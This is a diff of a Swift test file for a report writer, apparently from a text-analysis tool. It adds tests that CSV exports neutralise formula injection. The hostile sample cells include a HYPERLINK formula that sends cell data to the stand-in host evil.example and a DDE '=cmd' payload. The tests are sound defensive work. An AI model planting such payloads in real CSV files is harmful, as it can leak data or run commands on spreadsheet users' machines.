@@ -64,7 +64,7 @@ enum ReportFixture {
         let md = MarkdownRenderer(model: ReportModel(analysis: analysis, summary: ReportFixture.summary())).render()
         #expect(md.contains("pipe \\| in title and newline"))
         #expect(!md.contains("<script>"))
-        #expect(md.hasSuffix("|\n") && !md.hasSuffix("\n\n"))
+        #expect(md.hasSuffix("\n") && !md.hasSuffix("\n\n"))
     }
 
     @Test func bothRenderersShowTheSameSections() throws {
@@ -72,7 +72,8 @@ enum ReportFixture {
         let model = ReportModel(analysis: analysis, summary: ReportFixture.summary())
         let html = HTMLRenderer(model: model).render(), md = MarkdownRenderer(model: model).render()
         for section in model.sections {
-            #expect(html.contains("<h2>\(HTML.escape(section.title))</h2>"), "\(section.title)")
+            let id = section.anchor.map { " id=\"\($0)\"" } ?? ""
+            #expect(html.contains("<h2\(id)>\(HTML.escape(section.title))</h2>"), "\(section.title)")
             #expect(md.contains("## \(MarkdownText.cell(section.title))\n"), "\(section.title)")
         }
         #expect(model.sections.map(\.title).contains("Keyness: japan vs korea (focus)"))
@@ -83,7 +84,7 @@ enum ReportFixture {
         let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: "One"),
                                                    ReportFixture.article("b", title: "Two, with comma", date: nil)])
         let names = try ReportWriter(folder: folder).write(analysis, summary: ReportFixture.summary())
-        #expect(names == ReportWriter.fileNames + RunTables.corpusTables(analysis).map(\.name))
+        #expect(names == ReportWriter.fileNames + RunTables.corpusTables(analysis).map(\.name) + [ReportWriter.manifestName])
         let contents = try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted()
         #expect(contents == names.sorted())
         let csv = try String(contentsOf: folder.appendingPathComponent("documents.csv"), encoding: .utf8)
@@ -137,5 +138,47 @@ internal import CSQLite
         #expect(scalar("SELECT reason FROM failures") == "NUL bytes")
         let term = try #require(analysis.terms.first)
         #expect(scalar("SELECT count FROM terms WHERE term = '\(term.term)' AND language = '\(term.group)'") == String(term.count))
+    }
+}
+
+/// CSV formula injection: spreadsheet-safe CSV by default, exact text everywhere else.
+@Suite struct SpreadsheetSafetyTests {
+    static let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0",
+                          "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
+
+    @Test func cellsThatWouldRunAreNeutralisedAndNumbersAreNot() {
+        for cell in Self.hostile { #expect(CSVTable.neutralized(cell) == "'" + cell) }
+        for cell in ["-0.2500", "+3", "-1e-05", "1.5", "plain", "", "a=b", "-", "-inf"] {
+            #expect(CSVTable.neutralized(cell) == (cell == "-" || cell == "-inf" ? "'" + cell : cell))
+        }
+        var table = CSVTable(header: ["title", "score"])
+        table.append(["=1+1", "-0.5"])
+        #expect(table.text == "title,score\n'=1+1,-0.5\n")
+        #expect(table.render(.raw) == "title,score\n=1+1,-0.5\n")
+    }
+
+    @Test func runTablesAreSafeAndJSONLinesAndSQLiteKeepTheExactText() throws {
+        let title = Self.hostile[1]
+        let analysis = try ReportFixture.analysis([ReportFixture.article("a", title: title)])
+        let safe = FileManager.default.temporaryDirectory.appendingPathComponent("wl-csv-\(UUID().uuidString)")
+        try ReportWriter(folder: safe).write(analysis, summary: ReportFixture.summary())
+        let csv = try String(contentsOf: safe.appendingPathComponent("documents.csv"), encoding: .utf8)
+        #expect(csv.contains(",'=cmd|' /C calc'!A0,"))
+        #expect(!csv.contains(",=cmd"))
+        let jsonl = try String(contentsOf: safe.appendingPathComponent("documents.jsonl"), encoding: .utf8)
+        #expect(jsonl.contains("\"title\":\"=cmd|' /C calc'!A0\""))
+        var db: OpaquePointer?
+        #expect(sqlite3_open_v2(safe.appendingPathComponent("wavelength.sqlite").path, &db, SQLITE_OPEN_READONLY, nil) == SQLITE_OK)
+        defer { sqlite3_close(db) }
+        var stmt: OpaquePointer?
+        #expect(sqlite3_prepare_v2(db, "SELECT title FROM documents", -1, &stmt, nil) == SQLITE_OK)
+        defer { sqlite3_finalize(stmt) }
+        #expect(sqlite3_step(stmt) == SQLITE_ROW)
+        #expect(sqlite3_column_text(stmt, 0).map { String(cString: $0) } == title)
+
+        let raw = FileManager.default.temporaryDirectory.appendingPathComponent("wl-csv-\(UUID().uuidString)")
+        try ReportWriter(folder: raw, cells: .raw).write(analysis, summary: ReportFixture.summary())
+        let rawCSV = try String(contentsOf: raw.appendingPathComponent("documents.csv"), encoding: .utf8)
+        #expect(rawCSV.contains(",=cmd|' /C calc'!A0,"))
     }
 }
